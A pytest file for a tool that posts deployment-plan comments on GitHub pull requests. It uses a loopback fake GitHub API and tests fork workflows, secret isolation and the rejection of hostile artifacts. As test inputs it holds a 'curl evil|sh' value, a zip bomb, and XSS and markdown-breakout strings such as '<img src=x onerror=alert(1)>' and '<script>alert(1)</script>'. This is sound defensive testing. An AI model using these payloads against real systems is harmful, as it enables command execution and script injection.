"""The pull-request comment script against recorded event payloads and a loopback stand-in
for the GitHub REST API that records every call (the only stand-in: GitHub itself)."""

from __future__ import annotations

import io
import json
import random
import re
import sys
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote

import pytest
import yaml

from compiler.errors import InvalidInput
from compiler.gitops import github
from compiler.gitops import workflow as deploy
from compiler.gitops.github import MARKER
from tests.cli.test_cli import aisprint
from tests.conftest import REPO, copy_example
from tests.gitops.composite import Expressions, run_composite
from tests.gitops.test_plan import tighten

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "github"
TOKEN = "ghs_test_token_not_a_secret"


class FakeGitHub:
    """Issue comments, open pull requests and workflow-run artifacts of one repository,
    served on 127.0.0.1 (comment pages of two, like GitHub's Link-header pagination; artifact
    zips behind a redirect to another host name, like GitHub's blob storage), and a log of
    every request."""

    def __init__(self):
        self.comments: dict[int, dict] = {}
        self.pulls: list[dict] = []  # as GET /repos/{repo}/pulls returns them
        self.artifacts: dict[int, list[dict]] = {}  # run id -> listing (+ "zip": bytes)
        self.calls: list[tuple[str, str, dict | None, str]] = []
        self.next_id = 1000
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _reply(self, status: int, body=None, headers=None, raw: bytes | None = None):
                data = raw if raw is not None else \
                    json.dumps(body).encode() if body is not None else b""
                self.send_response(status)
                self.send_header("Content-Type", "application/json" if raw is None
                                 else "application/zip")
                for key, value in (headers or {}).items():
                    self.send_header(key, value)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def _record(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(length)) if length else None
                fake.calls.append((self.command, self.path, body,
                                   self.headers.get("Authorization", "")))
                return body

            def do_GET(self):
                self._record()
                path, _, query = self.path.partition("?")
                args = dict(p.split("=", 1) for p in query.split("&") if "=" in p)
                if match := re.fullmatch(r"/repos/([^/]+/[^/]+)/issues/(\d+)/comments", path):
                    return self._comments(match, int(args.get("page", 1)))
                if re.fullmatch(r"/repos/[^/]+/[^/]+/pulls", path):
                    head = unquote(args.get("head", ""))
                    return self._reply(200, [p for p in fake.pulls
                                             if p["head"]["label"] == head])
                if match := re.fullmatch(r"/repos/[^/]+/[^/]+/actions/runs/(\d+)/artifacts",
                                         path):
                    listing = [{k: v for k, v in a.items() if k != "zip"}
                               for a in fake.artifacts.get(int(match.group(1)), [])
                               if a["name"] == unquote(args.get("name", a["name"]))]
                    return self._reply(200, {"total_count": len(listing),
                                             "artifacts": listing})
                if match := re.fullmatch(r"/repos/[^/]+/[^/]+/actions/artifacts/(\d+)/zip",
                                         path):
                    port = self.server.server_address[1]
                    return self._reply(302, headers={
                        "Location": f"http://localhost:{port}/blob/{match.group(1)}"})
                if match := re.fullmatch(r"/blob/(\d+)", path):
                    for listing in fake.artifacts.values():
                        for a in listing:
                            if a["id"] == int(match.group(1)):
                                return self._reply(200, raw=a["zip"])
                return self._reply(404, {"message": "Not Found"})

            def _comments(self, match, page: int):
                items = sorted(fake.comments.values(), key=lambda c: c["id"])
                chunk = items[(page - 1) * 2:page * 2]
                headers = {}
                if page * 2 < len(items):
                    base = f"http://{self.headers['Host']}/repos/{match.group(1)}/issues/" \
                           f"{match.group(2)}/comments?per_page=100&page={page + 1}"
                    headers["Link"] = f'<{base}>; rel="next"'
                self._reply(200, chunk, headers)

            def do_POST(self):
                body = self._record()
                fake.next_id += 1
                comment = {"id": fake.next_id, "body": body["body"],
                           "user": {"login": "github-actions[bot]"}}
                fake.comments[fake.next_id] = comment
                self._reply(201, comment)

            def do_PATCH(self):
                body = self._record()
                comment_id = int(self.path.rsplit("/", 1)[1])
                fake.comments[comment_id]["body"] = body["body"]
                self._reply(200, fake.comments[comment_id])

            def do_DELETE(self):
                self._record()
                fake.comments.pop(int(self.path.rsplit("/", 1)[1]))
                self._reply(204)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def writes(self) -> list[tuple[str, str]]:
        return [(method, path) for method, path, _, _ in self.calls if method != "GET"]

    def upload(self, run_id: int, folder: Path, name: str = "aisprint-plan") -> None:
        """What actions/upload-artifact does with ``path: folder/``: a zip of the files
        relative to the folder, listed with its size."""
        self.add_artifact(run_id, zip_folder(folder), name)

    def add_artifact(self, run_id: int, data: bytes, name: str = "aisprint-plan",
                     **listing) -> None:
        self.next_id += 1
        self.artifacts.setdefault(run_id, []).append(
            {"id": self.next_id, "name": name, "size_in_bytes": len(data), "expired": False,
             "workflow_run": {"id": run_id}, "zip": data, **listing})


def zip_folder(folder: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(folder).as_posix())
    return buffer.getvalue()


@pytest.fixture
def fake_github():
    fake = FakeGitHub()
    fake.thread.start()
    yield fake
    fake.server.shutdown()
    fake.server.server_close()


def run_action(app, deploy_repo, fake, event: str, tmp_path, *extra):
    summary = tmp_path / "summary.md"
    env = {"GITHUB_EVENT_PATH": str(FIXTURES / event), "GITHUB_TOKEN": TOKEN,
           "GITHUB_API_URL": fake.url, "GITHUB_STEP_SUMMARY": str(summary)}
    return aisprint("pr-comment", str(app), "--repo", str(deploy_repo), *extra, env=env), summary


def test_one_sticky_comment_created_then_updated(mask_app, tmp_path, fake_github):
    deploy_repo = tmp_path / "deploy"
    deploy.commit(mask_app, repo=deploy_repo)
    fake_github.comments[1] = {"id": 1, "body": "LGTM", "user": {"login": "dev-bob"}}
    tighten(mask_app)
    done, summary = run_action(mask_app, deploy_repo, fake_github, "pull_request_opened.json",
                               tmp_path, "--detailed-exitcode")
    assert done.returncode == 2, done.stdout + done.stderr
    assert fake_github.writes() == [("POST", "/repos/acme/mask-detection-app/issues/7/comments")]
    assert all(auth == f"Bearer {TOKEN}" for *_, auth in fake_github.calls)
    ours = [c for c in fake_github.comments.values() if c["body"].startswith(MARKER)]
    assert len(ours) == 1 and "blurry-faces-onnx" in ours[0]["body"]
    assert "```mermaid" in ours[0]["body"] and len(ours[0]["body"]) <= 65_535
    assert "### aisprint plan:" in summary.read_text()
    # a new push to the pull request: the same comment is edited, nothing new is posted
    tighten(mask_app, 4)
    fake_github.calls.clear()
    done, _ = run_action(mask_app, deploy_repo, fake_github, "pull_request_synchronize.json",
                         tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert fake_github.writes() == [
        ("PATCH", f"/repos/acme/mask-detection-app/issues/comments/{ours[0]['id']}")]
    assert "4 s" in fake_github.comments[ours[0]["id"]]["body"]
    assert fake_github.comments[1]["body"] == "LGTM"  # others' comments untouched


def test_a_shorter_plan_deletes_the_parts_it_no_longer_needs(mask_app, tmp_path, fake_github):
    deploy_repo = tmp_path / "deploy"
    deploy.commit(mask_app, repo=deploy_repo)
    for i in (5, 6, 7):  # three parts of an earlier, longer plan (listed over two pages)
        fake_github.comments[i] = {"id": i, "body": f"{MARKER}\nold part {i}"}
    done, _ = run_action(mask_app, deploy_repo, fake_github, "pull_request_opened.json",
                         tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert fake_github.writes() == [
        ("PATCH", "/repos/acme/mask-detection-app/issues/comments/5"),
        ("DELETE", "/repos/acme/mask-detection-app/issues/comments/6"),
        ("DELETE", "/repos/acme/mask-detection-app/issues/comments/7")]
    assert "no changes" in fake_github.comments[5]["body"]
    pages = [path for method, path, *_ in fake_github.calls if method == "GET"]
    assert len(pages) == 2 and pages[1].endswith("page=2")


def test_no_changes_and_no_earlier_comment_posts_nothing(mask_app, tmp_path, fake_github):
    deploy_repo = tmp_path / "deploy"
    deploy.commit(mask_app, repo=deploy_repo)
    done, summary = run_action(mask_app, deploy_repo, fake_github, "pull_request_opened.json",
                               tmp_path, "--detailed-exitcode")
    assert done.returncode == 0 and fake_github.writes() == []
    assert "no changes" in summary.read_text()


def test_push_event_is_not_a_pull_request(mask_app, tmp_path, fake_github):
    done, _ = run_action(mask_app, tmp_path / "deploy", fake_github, "push.json", tmp_path)
    assert done.returncode == 0 and fake_github.calls == []


def test_event_payloads_are_read():
    pr = github.pull_request_from_event(FIXTURES / "pull_request_synchronize.json")
    assert (pr.repository, pr.number, pr.base_ref) == ("acme/mask-detection-app", 7, "main")
    assert github.pull_request_from_event(FIXTURES / "push.json") is None


def test_missing_token_is_a_diagnostic(mask_app, tmp_path, fake_github):
    env = {"GITHUB_EVENT_PATH": str(FIXTURES / "pull_request_opened.json"), "GITHUB_TOKEN": "",
           "GITHUB_API_URL": fake_github.url}
    (tmp_path / "empty").mkdir()
    done = aisprint("pr-comment", str(mask_app), "--against", str(tmp_path / "empty"), env=env)
    assert done.returncode == 1 and "AIS950" in done.stdout and fake_github.calls == []


def test_action_and_hooks_use_the_commands_that_exist():
    action = yaml.safe_load((REPO / "action.yml").read_text())
    assert action["runs"]["using"] == "composite"
    script = "\n".join(step.get("run", "") for step in action["runs"]["steps"])
    for verb in ("validate", "pr-plan", "pr-comment", "compile"):
        assert f'"$AISPRINT" {verb}' in script
    assert "-o github" in script  # validation errors as annotations
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text())
    assert {h["id"] for h in hooks} == {"aisprint-validate", "aisprint-compile-check"}
    for verb in ("pr-plan", "pr-comment", *(h["entry"].split()[1] for h in hooks)):
        done = aisprint(verb, "--help")
        assert done.returncode == 0, verb


# ----------------------------------------------------------------------------- two stages
#
# A pull request from a fork, through the action's own steps (tests/gitops/composite.py runs
# action.yml as the runner does) with the `with:` of the repository's own workflows: stage 1
# (plan.yml, the unprivileged pull_request job) plans and uploads the artifact; stage 2
# (plan-comment.yml, the workflow_run job) downloads it from the stand-in and comments.

READ_TOKEN = "ghs_read_only_token_of_the_fork_job"
WRITE_TOKEN = "ghs_write_token_of_the_comment_job"
DEPLOY_SECRET = "github_pat_deploy_secret_a_fork_never_sees"
SECRETS = (READ_TOKEN, WRITE_TOKEN, DEPLOY_SECRET)
WORKFLOWS = REPO / ".github" / "workflows"


def workflow_step(workflow: str) -> tuple[dict, dict]:
    """(the job, its `uses: ./` step) of one of the repository's workflows."""
    document = yaml.safe_load((WORKFLOWS / workflow).read_text())
    (job,) = document["jobs"].values()
    (step,) = [s for s in job["steps"] if s.get("uses") == "./"]
    return job, step


def event_file(tmp_path: Path, name: str, edit) -> tuple[Path, dict]:
    event = json.loads((FIXTURES / name).read_text())
    edit(event)
    path = tmp_path / f"event-{name}"
    path.write_text(json.dumps(event))
    return path, event


def runner_env(tmp_path: Path, event_name: str, event_path: Path, **extra) -> dict[str, str]:
    """What the runner gives every step of a job, and nothing else (no token)."""
    import os
    import shutil

    temp = tmp_path / f"runner-{event_name}"
    venv_bin = temp / "aisprint-venv" / "bin"  # what the install step would have made
    venv_bin.mkdir(parents=True, exist_ok=True)
    wrapper = venv_bin / "aisprint"
    wrapper.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m compiler.cli.main "$@"\n')
    wrapper.chmod(0o755)
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    path = os.pathsep.join(str(Path(shutil.which(tool)).parent) for tool in ("git", "bash",
                                                                             "sha256sum"))
    return {"PATH": path, "HOME": str(home), "LANG": "C.UTF-8", "CI": "true",
            "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event_name,
            "GITHUB_EVENT_PATH": str(event_path), "GITHUB_ACTION_PATH": str(REPO),
            "GITHUB_REPOSITORY": "acme/mask-detection-app",
            "GITHUB_STEP_SUMMARY": str(temp / "summary.md"), "RUNNER_TEMP": str(temp),
            "RUNNER_OS": "Linux", "RUNNER_ARCH": "X64", **extra}


def uses_handlers(fake: FakeGitHub, run_id: int) -> dict:
    def upload(given):
        folder = Path(given["path"])
        assert given["if-no-files-found"] == "error" and any(folder.iterdir())
        fake.upload(run_id, folder, given["name"])
        return {}

    return {"actions/setup-python": lambda given: {"python-version": "3.11.9"},
            # the environment the install step would make stands ready (runner_env): a hit
            "actions/cache": lambda given: {"cache-hit": "true"},
            "actions/upload-artifact": upload}


def fork_workspace(tmp_path: Path) -> tuple[Path, str, str]:
    """The fork's pull request as plan.yml checks it out (fetch-depth: 0): the base commit
    with the example, and the head commit that tightens blurry-faces-onnx's limit to 4 s."""
    import git

    work = tmp_path / "work"
    (work / "examples").mkdir(parents=True)
    app = copy_example("mask_detection", work / "examples", models=False)
    repo = git.Repo.init(work, initial_branch="main")
    repo.git.add("-A")
    repo.git.commit("-q", "-m", "base")
    base = repo.head.commit.hexsha
    tighten(app, 4)
    repo.git.commit("-q", "-am", "tighter limit")
    return work, base, repo.head.commit.hexsha


def no_secret_in(steps) -> None:
    for step in steps:
        assert not [k for k in step.env if "TOKEN" in k or "SECRET" in k], step.name
        assert not [k for k, v in step.env.items() if any(s in v for s in SECRETS)], step.name


def stage_one(tmp_path, fake, *, server: Path) -> tuple[dict, str, object]:
    """plan.yml's job on the fork's pull request; returns its event, the head and the run."""
    job, step = workflow_step("plan.yml")
    assert job["permissions"] == {"contents": "read"}
    assert "secrets." not in (WORKFLOWS / "plan.yml").read_text()
    work, base, head = fork_workspace(tmp_path)

    def edit(event):
        event["pull_request"]["base"]["sha"] = base
        event["pull_request"]["head"]["sha"] = head

    path, event = event_file(tmp_path, "pull_request_fork.json", edit)
    contexts = {"github": {"event_name": "pull_request", "token": READ_TOKEN, "event": event},
                "vars": {"DEPLOY_REPOSITORY": "acme/mask-detection-deploy"},
                "secrets": {},  # GitHub gives a fork's pull_request job no secret
                "runner": {"temp": str(tmp_path / "runner-pull_request")}}
    expressions = Expressions(contexts)
    given = {k: expressions.text(v) for k, v in step["with"].items()}
    env = runner_env(tmp_path, "pull_request", path,
                     GITHUB_SERVER_URL=f"file://{server}", GITHUB_WORKSPACE=str(work))
    done = run_composite(REPO / "action.yml", given, contexts=contexts, env=env, cwd=work,
                         uses=uses_handlers(fake, 4242424242))
    return {"base": base, "head": head, "event": event}, head, done


def stage_two(tmp_path, fake, head: str, *, edit=None):
    """plan-comment.yml's job for the run that planned ``head``, in an empty folder: nothing
    of the pull request is checked out."""
    job, step = workflow_step("plan-comment.yml")
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}

    def change(event):
        event["workflow_run"]["head_sha"] = head
        if edit:
            edit(event)

    path, event = event_file(tmp_path, "workflow_run_fork.json", change)
    contexts = {"github": {"event_name": "workflow_run", "token": WRITE_TOKEN, "event": event},
                "vars": {}, "secrets": {}, "runner": {"temp": str(tmp_path / "runner-wr")}}
    if not Expressions(contexts).condition(job["if"]):
        return None
    given = {k: Expressions(contexts).text(v) for k, v in step["with"].items()}
    trusted = tmp_path / "default-branch"
    trusted.mkdir(exist_ok=True)
    env = runner_env(tmp_path, "workflow_run", path, GITHUB_API_URL=fake.url,
                     GITHUB_WORKSPACE=str(trusted))
    return run_composite(REPO / "action.yml", given, contexts=contexts, env=env, cwd=trusted,
                         uses=uses_handlers(fake, 0))


def fork_pull(event: dict) -> dict:
    """The fork's pull request as GET /repos/{repo}/pulls lists it."""
    pr = event["pull_request"]
    return {"number": pr["number"], "head": pr["head"], "base": pr["base"]}


@pytest.mark.slow
def test_fork_pull_request_is_planned_without_secrets_and_commented_from_the_artifact(
        tmp_path, fake_github):
    # stage 1: the deployment repository is private (not readable without credentials), so
    # the plan is made against the pull request's base
    case, head, done = stage_one(tmp_path, fake_github, server=tmp_path / "no-server")
    assert done.ok, done.log()
    assert done.names() == ["Choose the mode", "Set up Python", "Key of the installed "
                            "tool", "Restore the installed tool",
                            "Install aisprint-gitops from this action's own ref", "Validate",
                            "Plan (no secret, read-only token)",
                            "Upload the plan for the comment stage"]
    no_secret_in(done.steps)
    assert "cannot be read without credentials" in done.log()
    assert done.outputs["plan"]["outputs"]["exit-code"] == "2"
    (artifact,) = fake_github.artifacts[4242424242]
    with zipfile.ZipFile(io.BytesIO(artifact["zip"])) as archive:
        assert sorted(archive.namelist()) == ["plan.json", "plan.md"]
        plan = json.loads(archive.read("plan.json"))
    assert plan["current"]["commit"] == case["base"] and plan["desired"]["commit"] == head
    assert fake_github.calls == []  # stage 1 never talks to GitHub

    # stage 2: the privileged job finds the pull request from the event (GitHub lists none
    # for forks) and posts ONE comment rendered from the artifact
    fake_github.pulls = [fork_pull(case["event"])]
    done = stage_two(tmp_path, fake_github, head)
    assert done.ok, done.log()
    assert done.names() == ["Choose the mode", "Set up Python", "Key of the installed "
                            "tool", "Restore the installed tool",
                            "Install aisprint-gitops from this action's own ref",
                            "Comment (the artifact is untrusted data; no pull-request code "
                            "runs here)"]
    holders = [s.name for s in done.steps if WRITE_TOKEN in s.env.values()]
    assert holders == [done.steps[-1].name]  # only the comment step holds the token
    assert fake_github.writes() == [("POST", "/repos/acme/mask-detection-app/issues/8/comments")]
    (comment,) = fake_github.comments.values()
    assert comment["body"].startswith(MARKER) and "blurry-faces-onnx" in comment["body"]
    assert "4 s" in comment["body"]
    api = [c for c in fake_github.calls if not c[1].startswith("/blob/")]
    blob = [c for c in fake_github.calls if c[1].startswith("/blob/")]
    assert all(auth == f"Bearer {WRITE_TOKEN}" for *_, auth in api)
    assert len(blob) == 1 and blob[0][3] == ""  # the token does not follow the redirect

    # the same run again (a re-run): the one comment is already right, nothing is posted
    fake_github.calls.clear()
    done = stage_two(tmp_path, fake_github, head)
    assert done.ok and fake_github.writes() == [] and len(fake_github.comments) == 1


@pytest.mark.slow
def test_a_public_deployment_repository_is_planned_against(tmp_path, fake_github, mask_app):
    server = tmp_path / "server"
    deploy_repo = server / "acme" / "mask-detection-deploy.git"
    written, _ = deploy.commit(mask_app, repo=deploy_repo)
    _, head, done = stage_one(tmp_path, fake_github, server=server)
    assert done.ok, done.log()
    no_secret_in(done.steps)
    (artifact,) = fake_github.artifacts[4242424242]
    with zipfile.ZipFile(io.BytesIO(artifact["zip"])) as archive:
        plan = json.loads(archive.read("plan.json"))
    assert plan["current"]["kind"] == "repo" and plan["current"]["commit"] == written.commit
    assert "cannot be read without credentials" not in done.log()


@pytest.mark.parametrize("field, value", [("event", "push"), ("conclusion", "failure")])
def test_stage_two_skips_runs_that_are_not_successful_pull_request_plans(
        field, value, tmp_path, fake_github):
    def edit(event):
        event["workflow_run"][field] = value

    assert stage_two(tmp_path, fake_github, "c0ffee00" * 5, edit=edit) is None  # job `if`
    path, _ = event_file(tmp_path, "workflow_run_fork.json", edit)
    done = aisprint("pr-comment", "--artifact", "aisprint-plan",  # and the tool itself
                    env={"GITHUB_EVENT_PATH": str(path), "GITHUB_TOKEN": WRITE_TOKEN,
                         "GITHUB_API_URL": fake_github.url})
    assert done.returncode == 0 and fake_github.calls == [], done.stdout + done.stderr


def test_a_pull_request_pushed_to_again_is_left_to_the_newer_run(tmp_path, fake_github):
    pull = fork_pull(json.loads((FIXTURES / "pull_request_fork.json").read_text()))
    pull["head"] = {**pull["head"], "sha": "1" * 40}  # moved on since the run
    fake_github.pulls = [pull]
    path, _ = event_file(tmp_path, "workflow_run_fork.json", lambda e: None)
    done = aisprint("pr-comment", "--artifact", "aisprint-plan",
                    env={"GITHUB_EVENT_PATH": str(path), "GITHUB_TOKEN": WRITE_TOKEN,
                         "GITHUB_API_URL": fake_github.url})
    assert done.returncode == 0 and "AIS985" in done.stderr
    assert fake_github.writes() == [] and not any("artifacts" in c[1] for c in fake_github.calls)


def test_same_repository_pull_request_comes_from_the_event_list(tmp_path, fake_github):
    plan = tiny_plan()
    fake_github.add_artifact(4242420007, zip_bytes({"plan.json": plan}))
    done = aisprint("pr-comment", "--artifact", "aisprint-plan",
                    env={"GITHUB_EVENT_PATH": str(FIXTURES / "workflow_run_same_repo.json"),
                         "GITHUB_TOKEN": WRITE_TOKEN, "GITHUB_API_URL": fake_github.url})
    assert done.returncode == 0, done.stdout + done.stderr
    assert fake_github.writes() == [("POST", "/repos/acme/mask-detection-app/issues/7/comments")]
    assert not any("/pulls" in c[1] for c in fake_github.calls)  # no lookup needed


# ----------------------------------------------------------------------------- hostile artifacts


def tiny_plan() -> bytes:
    """A valid plan (the tool's own Plan rendered to JSON): one unit scaled, one file changed."""
    from compiler.gitops.plan import (
        ArtifactChange,
        PlacementChange,
        Plan,
        QosPath,
        Side,
        UnitPlacement,
    )
    from compiler.gitops.summary import plan_json as render_json

    plan = Plan(
        Side("repo", "main", "a" * 40, "b" * 64), Side("compile", "working tree", "c" * 40,
                                                       "d" * 64),
        (PlacementChange("blurry-faces-onnx", "blurry-faces-onnx",
                         UnitPlacement(1, "RaspPi", 1, "c1"),
                         UnitPlacement(1, "RaspPi", 2, "c1")),),
        1.0, 2.0, (QosPath("blurry-faces-onnx", "local", ("blurry-faces-onnx",), 4.0, 6.0, 3.5,
                           5.0),),
        (ArtifactChange("aisprint/deployments/current_deployment/im/a.yaml", "modified",
                        "restart", False, 10, 12, "e" * 64, "f" * 64, "-a: 1\n+a: 2\n"),),
        (("mask-detector", "blurry-faces-onnx", 1.0),), ((1, "edge"),))
    return render_json(plan).encode()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def comment_from(fake: FakeGitHub, tmp_path: Path, data: bytes, **listing):
    """Stage 2 on the fork's run with an artifact holding ``data`` (a zip's bytes)."""
    fake.pulls = [fork_pull(json.loads((FIXTURES / "pull_request_fork.json").read_text()))]
    fake.add_artifact(4242424242, data, **listing)
    path, _ = event_file(tmp_path, "workflow_run_fork.json", lambda e: None)
    return aisprint("pr-comment", "--artifact", "aisprint-plan",
                    env={"GITHUB_EVENT_PATH": str(path), "GITHUB_TOKEN": WRITE_TOKEN,
                         "GITHUB_API_URL": fake.url, "GITHUB_STEP_SUMMARY": ""})


def _with(edit) -> bytes:
    plan = json.loads(tiny_plan())
    edit(plan)
    return json.dumps(plan).encode()


HOSTILE = {
    "listed larger than the limit": (zip_bytes({"plan.json": tiny_plan()}),
                                     {"size_in_bytes": github.MAX_ARTIFACT_BYTES + 1}, "AIS982"),
    "expired": (zip_bytes({"plan.json": tiny_plan()}), {"expired": True}, "AIS982"),
    "not a zip": (b"MZ\x90\x00 not a zip at all", {}, "AIS982"),
    "no plan.json at its top": (zip_bytes({"x/plan.json": tiny_plan(), "../plan.json": b"{}"}),
                                {}, "AIS982"),
    "not JSON": (zip_bytes({"plan.json": b"{'has_changes': true"}), {}, "AIS983"),
    "not UTF-8": (zip_bytes({"plan.json": b'{"a": "\xff\xfe"}'}), {}, "AIS983"),
    "wrong schema": (zip_bytes({"plan.json": _with(lambda p: p.update(has_changes="yes"))}),
                     {}, "AIS983"),
    "an extra key": (zip_bytes({"plan.json": _with(lambda p: p.update(run="curl evil|sh"))}),
                     {}, "AIS983"),
    "NaN": (zip_bytes({"plan.json": tiny_plan().replace(b'"after": 2.0', b'"after": NaN')}),
            {}, "AIS983"),
    "1e999": (zip_bytes({"plan.json": tiny_plan().replace(b'"after": 2.0', b'"after": 1e999')}),
              {}, "AIS983"),
    "a layer that is not a number": (
        zip_bytes({"plan.json": _with(lambda p: p["layers"].update({"<b>": "x"}))}), {},
        "AIS983"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_artifact_is_refused_and_nothing_is_posted(case, tmp_path, fake_github):
    data, listing, code = HOSTILE[case]
    done = comment_from(fake_github, tmp_path, data, **listing)
    assert done.returncode == 1 and code in done.stdout, done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    assert fake_github.writes() == []
    if "size_in_bytes" in listing:  # refused from the listing: never downloaded
        assert not any(c[1].endswith("/zip") for c in fake_github.calls)


def test_the_download_and_the_unpacking_are_bounded_whatever_the_listing_says(
        tmp_path, fake_github, monkeypatch):
    run = github.workflow_run_from_event(FIXTURES / "workflow_run_fork.json")
    client = github.GitHub(WRITE_TOKEN, fake_github.url)
    noise = random.Random(0).randbytes(100_000)  # does not compress
    big = zip_bytes({"plan.json": tiny_plan(), "padding.bin": noise})
    fake_github.add_artifact(run.run_id, big, size_in_bytes=10)  # the listing lies
    monkeypatch.setattr(github, "MAX_ARTIFACT_BYTES", 50_000)
    with pytest.raises(InvalidInput) as refused:
        github.fetch_plan_artifact(client, run)
    assert refused.value.diagnostics[0].code == "AIS982"
    # a zip bomb: plan.json unpacks to far more than the limit
    fake_github.artifacts.clear()
    fake_github.add_artifact(run.run_id, zip_bytes({"plan.json": b" " * 2_000_000}))
    monkeypatch.setattr(github, "MAX_PLAN_BYTES", 100_000)
    with pytest.raises(InvalidInput) as refused:
        github.fetch_plan_artifact(client, run)
    assert refused.value.diagnostics[0].code == "AIS982"
    assert "unpacks to 2000000 bytes" in refused.value.diagnostics[0].message


BREAKOUT = "x\n````\n</details>\n\n@acme/admins <img src=x onerror=alert(1)>\n```\n\r```\n"


def hostile_names(plan: dict) -> None:
    plan["artifacts"][0]["path"] = "a</code></summary></details><img src=x>\n\n@mallory `x`"
    plan["artifacts"][0]["diff"] = BREAKOUT
    unit = 'evil"]\nclick n0 call alert()\n%%`@mallory`<b>bold</b>'
    for p in plan["placement"]:
        p["unit"] = p["component"] = unit
        p["after"]["resource"] = "RaspPi|x<script>alert(1)</script>"
    plan["dag"]["edges"] = [["mask-detector", unit, 1.0]]
    plan["layers"] = {"1": "edge```<img src=y>"}
    plan["current"]["ref"] = "HEAD @acme/security [click](https://evil.example)"
    plan["qos"][0]["name"] = "p1 ![x](https://evil.example/t.png)"


def test_markdown_from_the_artifact_cannot_break_out(tmp_path, fake_github):
    from markdown_it import MarkdownIt

    done = comment_from(fake_github, tmp_path, zip_bytes({"plan.json": _with(hostile_names)}))
    assert done.returncode == 0, done.stdout + done.stderr
    (comment,) = fake_github.comments.values()
    body = comment["body"]
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    allowed = {"details", "/details", "summary", "/summary", "code", "/code", "sub", "/sub"}
    html = [t.content for t in tokens if t.type == "html_block"] + [
        c.content for t in tokens if t.type == "inline" for c in t.children
        if c.type == "html_inline"]
    tags = {m.group(1).lower() for h in html for m in re.finditer(r"<(/?[a-zA-Z]+)", h)}
    assert tags <= allowed, tags  # no <img>, <script>, <b> made it into HTML
    blocks = "".join(t.content for t in tokens if t.type == "html_block")
    assert blocks.count("<details>") == blocks.count("</details>") == 1  # one diff, closed once
    texts = [c.content for t in tokens if t.type == "inline" for c in t.children
             if c.type == "text"] + [t.content for t in tokens if t.type == "html_block"]
    assert not [t for t in texts if re.search(r"@\w", t)]  # no mention outside code
    assert not [c for t in tokens if t.type == "inline" for c in t.children
                if c.type in ("link_open", "image")]
    fences = [t for t in tokens if t.type == "fence"]
    assert [f.info for f in fences] == ["mermaid", "diff"]
    # the whole diff, inside its block: no run of backticks left to close it, no \r
    assert fences[1].content == (
        "x\n\u02cb\u02cb\u02cb\u02cb\n</details>\n\n@acme/admins <img src=x onerror=alert(1)>\n"
        "\u02cb\u02cb\u02cb\n\ufffd\u02cb\u02cb\u02cb\n")
    assert "\r" not in body and "click n0" not in fences[0].content.split("\n", 2)[-1].split(
        '"')[0]


def test_a_plan_the_tool_wrote_reads_back_unchanged():
    from compiler.gitops.summary import plan_json as render_json

    assert render_json(github.untrusted_plan(tiny_plan(), "test")) == tiny_plan().decode()


def test_a_saved_plan_file_must_be_a_small_regular_file(tmp_path):
    (tmp_path / "plan.json").write_bytes(tiny_plan())
    (tmp_path / "link.json").symlink_to(tmp_path / "plan.json")
    assert github.read_plan_file(tmp_path / "plan.json") == tiny_plan()
    for bad in (tmp_path / "link.json", tmp_path, tmp_path / "missing.json"):
        with pytest.raises(InvalidInput) as refused:
            github.read_plan_file(bad)
        assert refused.value.diagnostics[0].code == "AIS982"


def test_a_saved_plan_is_commented_as_untrusted_data_too(tmp_path, fake_github):
    plan = tmp_path / "plan.json"
    plan.write_bytes(_with(hostile_names))
    done = aisprint("pr-comment", "--plan", str(plan),
                    env={"GITHUB_EVENT_PATH": str(FIXTURES / "pull_request_opened.json"),
                         "GITHUB_TOKEN": WRITE_TOKEN, "GITHUB_API_URL": fake_github.url,
                         "GITHUB_STEP_SUMMARY": ""})
    assert done.returncode == 0, done.stdout + done.stderr
    assert fake_github.writes() == [("POST", "/repos/acme/mask-detection-app/issues/7/comments")]
    (comment,) = fake_github.comments.values()
    assert "<img" not in comment["body"].split("```diff")[0] and "@mallory" not in comment["body"]
